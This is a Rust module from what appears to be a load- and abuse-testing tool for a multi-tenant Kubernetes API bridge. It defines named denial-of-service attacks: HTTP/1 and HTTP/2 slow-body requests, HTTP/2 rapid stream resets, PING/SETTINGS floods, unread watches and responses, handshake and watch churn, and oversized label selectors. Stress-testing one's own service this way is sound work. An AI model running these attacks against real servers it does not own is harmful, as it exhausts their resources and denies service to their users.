//! Connections that are opened and kept, abandoned, or never read from.

use std::io::Write;
use std::time::{Duration, Instant};

use super::{Tenant, path};
use crate::client::{Endpoint, Stream};
use crate::http2;
use crate::siege::{Attack, Done};

/// Number of streams of one HTTP/2 connection.
const STREAMS: u32 = 90;
/// Number of connections of one worker.
const KEPT: usize = 60;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;

/// Opens up to [`KEPT`], keeps them until the end, and replaces those that the bridge closes.
fn keep(until: Instant, mut open: impl FnMut() -> Option<Stream>) -> Done {
    let (mut kept, mut opened) = (Vec::new(), 0_u64);
    while Instant::now() < until {
        if kept.len() >= KEPT {
            std::thread::sleep(Duration::from_secs(5).min(until.saturating_duration_since(Instant::now())));
            kept.drain(..KEPT / 4);
        }
        kept.extend(open());
        opened += 1;
    }
    opened.into()
}

fn say(endpoint: &Endpoint, text: &str) -> Option<Stream> {
    let mut stream = endpoint.connect().ok()?;
    stream.write_all(text.as_bytes()).and_then(|()| stream.flush()).ok()?;
    Some(stream)
}

fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u8::try_from(payload.len()).expect("a short frame");
    [&[0, 0, length, kind, 0], &stream.to_be_bytes()[..], payload].concat()
}

pub(super) fn attacks(tenant: &Tenant) -> Vec<Attack<'_>> {
    let endpoint = &tenant.endpoint;
    let reviews = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
    let get =
        move |path: &str| format!("GET {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\n", endpoint.token());
    let watch = format!("{}?watch=1", path("configmaps"));
    let unread: Vec<String> =
        [path("configmaps"), path("events"), "/openapi/v2".to_owned(), "/openapi/v3/apis/apps/v1".to_owned()].into();
    let post = format!(
        "POST {} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\ncontent-type: application/json\r\n\
         content-length: 3000000\r\n\r\n{{",
        path("configmaps"),
        endpoint.token(),
    );
    let asked = get(&watch);
    let large = move |at: usize| {
        let body =
            format!("{{\"metadata\":{{\"name\":\"large-{at}\"}},\"data\":{{\"a\":\"{}\"}}}}", "x".repeat(900_000));
        tenant.asker().ask("POST", &path("configmaps"), super::JSON, body.as_bytes())
    };
    let begun = move |window: u32, request: (&str, &str), body: Option<usize>| {
        http2::requests(endpoint, window, STREAMS, request, body).ok()
    };
    let watch2 = watch.clone();
    let selecting = format!("{watch}&labelSelector={}a", "a,".repeat(3_000));
    vec![
        Attack::new("slow bodies, HTTP/2", move |_, until| keep(until, || begun(65_535, ("POST", reviews), Some(9)))),
        Attack::new("slow bodies, HTTP/1", move |_, until| keep(until, || say(endpoint, &post))),
        Attack::new("answers nobody reads", move |random, until| {
            let _made: Vec<_> = (0..5).map(large).collect();
            let window = random.one(&[0, 1]);
            keep(until, || begun(window, ("GET", &unread[random.below(unread.len())]), None))
        }),
        Attack::new("watches nobody reads", move |_, until| keep(until, || begun(0, ("GET", &watch2), None))),
        Attack::new("watches of many requirements", move |_, until| {
            keep(until, || begun(65_535, ("GET", &selecting), None))
        }),
        Attack::new("idle connections", move |_, until| keep(until, || say(endpoint, &asked))),
        Attack::new("watch churn", {
            let whole = format!("{}\r\n", get(&watch));
            move |_, until| {
                let mut opened = 0_u64;
                while Instant::now() < until {
                    drop(say(endpoint, &whole));
                    opened += 1;
                }
                opened.into()
            }
        }),
        Attack::new("handshakes", move |_, until| {
            let mut opened = 0_u64;
            while Instant::now() < until {
                drop(say(endpoint, ""));
                opened += 1;
            }
            opened.into()
        }),
        Attack::new("requests given up at once, HTTP/2", move |_, until| {
            let (mut opened, list) = (0_u64, path("pods"));
            while Instant::now() < until {
                let Some(mut stream) = begun(65_535, ("GET", &list), None) else { continue };
                let resets: Vec<u8> =
                    (0..STREAMS).flat_map(|at| frame(RST_STREAM, 2 * at + 1, &8_u32.to_be_bytes())).collect();
                // The bridge may have closed it.
                let _sent = stream.write_all(&resets).and_then(|()| stream.flush());
                opened += u64::from(STREAMS);
            }
            opened.into()
        }),
        Attack::new("pings and settings, HTTP/2", move |_, until| {
            let many: Vec<u8> = (0..200).flat_map(|_| [frame(PING, 0, &[0; 8]), frame(4, 0, &[])].concat()).collect();
            let mut sent = 0_u64;
            while Instant::now() < until {
                let Some(mut stream) = begun(65_535, ("GET", "/version"), None) else { continue };
                while Instant::now() < until && stream.write_all(&many).and_then(|()| stream.flush()).is_ok() {
                    sent += 400;
                }
            }
            sent.into()
        }),
    ]
}
